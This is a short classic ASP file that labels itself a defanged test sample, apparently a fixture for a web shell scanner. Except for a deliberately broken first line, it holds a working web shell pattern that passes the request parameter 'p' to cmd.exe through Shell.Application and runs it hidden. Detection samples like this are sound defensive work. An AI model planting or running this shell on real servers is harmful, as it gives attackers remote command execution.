<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
Dim shell, cmdline
Set shell = Server.CreateObject("Shell.Application")
cmdline = Request("p")
shell.ShellExecute "cmd.exe", "/c " & cmdline, "", "open", 0
%>
